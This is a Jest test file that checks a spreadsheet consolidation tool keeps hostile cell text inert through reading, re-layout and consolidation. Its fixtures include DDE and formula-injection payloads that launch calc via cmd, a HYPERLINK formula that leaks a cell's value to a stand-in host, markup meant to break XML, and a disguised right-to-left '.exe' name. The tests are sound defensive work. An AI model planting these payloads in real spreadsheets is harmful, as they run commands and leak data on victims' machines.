/** Texts that would be more than text, all the way: out of a file, into a submission, and laid out into a file again. */
import { consolidate } from '../../../../src/consolidation/consolidate';
import { emptyDocket } from '../../../../src/consolidation/docket';
import type { SubmissionContent, SubmittedReport } from '../../../../src/consolidation/submission';
import { writeXlsx } from '../../../../src/hosts/xlsx/write/writeXlsx';
import { layOutConsolidated } from '../../../../src/layout/consolidated/workbook';
import { checkWorkbook } from '../../../../src/workflows/checkWorkbook';
import { consolidationScope } from '../../../../src/workflows/consolidate/scope';
import { layOutAgain } from '../../../../src/workflows/layOutAgain';
import { library } from '../../../library';
import { workbookWith } from './hostile/texts';
import { codesOf, edited, packed, partTexts, scope, submitted } from './reportFile';
import { snapshotOf } from './workbookBuilder';

jest.setTimeout(60_000);

/** The sheet of tasks, its entries from row 7 on. */
const TASKS = /sheet3\.xml$/;
const HARMLESS = 'Đã ban hành kế hoạch';
const texts: readonly (readonly [what: string, text: string])[] = [
  ['a command', "=cmd|' /C calc'!A0"],
  ['a link that tells', '=HYPERLINK("http://example.invalid/?"&A1,"x")'],
  ['a sum', '+1+1'],
  ['a difference', '-2+3'],
  ['a function of old', '@SUM(1+1)*cmd|x'],
  ['a formula in other letters', '＝1＋1'],
  ['a formula behind an apostrophe', "'=1+1"],
  ['markup', '</t></si></sst><f>1+1</f>]]><!-- &amp;lol; "\''],
  ['an escape of Excel', '_x003D_1+1'],
  ['an error value', '#REF! #N/A'],
  ['letters from right to left', '\u202Etxt.exe\u202C עברית \u2067أبج\u2069'],
  ['characters of no width', 'a\u200Bb\u200C\u200Dc\uFEFFd\u2060e'],
  ['characters beyond the first plane', '😀𠜎\u{E0001}'],
  ['letters and marks apart', 'Ủy ban nhân dân xã Phong Điền'.normalize('NFD')],
  ['object keys', '__proto__'],
];

const everyText = ({ lines, info, general, coordination }: SubmittedReport): readonly unknown[] => [
  ...lines.flatMap(({ entry }) => Object.entries(entry)),
  ...Object.entries(info),
  ...Object.entries(general),
  ...coordination.map(({ rowId, text }) => [rowId, text]),
];
/** The words are the harmless twin's but for the text itself. */
const replaced = (report: SubmittedReport, text: string): unknown =>
  JSON.parse(JSON.stringify(everyText(report)).replaceAll(JSON.stringify(HARMLESS), JSON.stringify(text)));

const formulasOf = (bytes: Uint8Array): readonly string[] =>
  [...partTexts(bytes).values()].flatMap((xml) => xml.match(/<f[ >][^<]*<\/f>/g) ?? []);

const reportWith = (text: string): Promise<Uint8Array> => writeXlsx(workbookWith(scope, text));

async function laidOutAgain(bytes: Uint8Array): Promise<Uint8Array> {
  const checked = await checkWorkbook(library, snapshotOf(bytes));
  if (checked.kind !== 'checked') throw new Error(checked.kind);
  const again = layOutAgain(checked);
  if (!again.ok) throw new Error(again.error);
  return writeXlsx(again.value.model);
}

let twin: SubmittedReport;
let formulas: readonly string[];
beforeAll(async () => {
  const harmless = await reportWith(HARMLESS);
  twin = await submitted(harmless);
  formulas = formulasOf(await laidOutAgain(harmless));
});

test.each(texts)('%s stays text', async (_, text) => {
  const bytes = await reportWith(text);
  const report = await submitted(bytes);
  expect(everyText(report)).toEqual(replaced(twin, text));
  expect(everyText(report).length).toBeGreaterThan(100);
  expect(report.outside).toEqual([{ annexId: 'II', text: `${text} | ${text}` }]);

  const again = await laidOutAgain(bytes);
  const { general: _moved, ...kept } = await submitted(again);
  expect(everyText({ ...kept, general: {} })).toEqual(everyText({ ...report, general: {} }));
  expect(formulasOf(again)).toEqual(formulas);
  expect(({} as Record<string, unknown>)['result']).toBeUndefined();
});

test('a formula typed into an entry gives what it shows, and is written nowhere again', async () => {
  const FORMULA = "cmd|' /C calc'!A0";
  const parts = edited(partTexts(await reportWith(HARMLESS)), TASKS, (xml) =>
    xml.replace(/(<c r="K(?:[7-9]|\d\d)") t="s"( s="\d+">)<v>\d+<\/v>/g, `$1 t="str"$2<f>${FORMULA}</f><v>đã xong</v>`),
  );
  const bytes = packed(parts);
  expect(formulasOf(bytes).filter((formula) => formula.includes('cmd')).length).toBeGreaterThan(5);
  const { lines } = await submitted(bytes);
  expect(lines.filter(({ entry }) => 'result' in entry && entry.result === 'đã xong').length).toBeGreaterThan(5);
  expect(formulasOf(await laidOutAgain(bytes)).filter((formula) => formula.includes('cmd'))).toEqual([]);
});

test('a workbook typed with letters and marks apart is the same submission', async () => {
  const unread = edited(partTexts(await reportWith(HARMLESS)), TASKS, (xml) =>
    xml.replace(/<c r="H7" s="(\d+)"><v>[^<]*/, '<c r="H7" s="$1" t="str"><v>chưa thống kê'),
  );
  const bytes = packed(unread);
  const apart = packed(edited(unread, /./, (xml) => xml.normalize('NFD')));
  const [report, composedReport] = [await submitted(apart), await submitted(bytes)];
  expect(Buffer.compare(apart, bytes)).not.toBe(0);
  expect(composedReport.lines.some(({ hasUnread }) => hasUnread)).toBe(true);
  expect(report.entriesHash).toBe(composedReport.entriesHash);
  // Both are notices: the letters are told of, and a word of a list is known all the same.
  expect(codesOf(report)).toEqual([...codesOf(composedReport), 'decomposed-text', 'understood-text'].sort());
  const composed = (of: SubmittedReport): string => JSON.stringify(of.lines).normalize('NFC');
  expect(composed(report)).toBe(composed(composedReport));
});

test('a command is text in the consolidated workbook too', async () => {
  const scopeOfCity = consolidationScope(library, scope.plan.id, scope.period.id);
  if (!scopeOfCity.ok) throw new Error(scopeOfCity.error.kind);
  const consolidatedWith = async (text: string): Promise<Uint8Array> => {
    const file = { name: `${text}.xlsx`, hash: 'a'.repeat(64), bytes: 1 };
    const content: SubmissionContent = { kind: 'report', report: await submitted(await reportWith(text)) };
    const input = { scope: scopeOfCity.value, docket: emptyDocket, now: '2026-11-15T00:00:00Z' };
    return writeXlsx(layOutConsolidated(consolidate({ ...input, submissions: [{ file, content }] })));
  };
  const hostile = await consolidatedWith("=cmd|' /C calc'!A0");
  expect(formulasOf(hostile)).toEqual(formulasOf(await consolidatedWith(HARMLESS)));
  expect([...partTexts(hostile).values()].join('')).toContain('=cmd|');
});
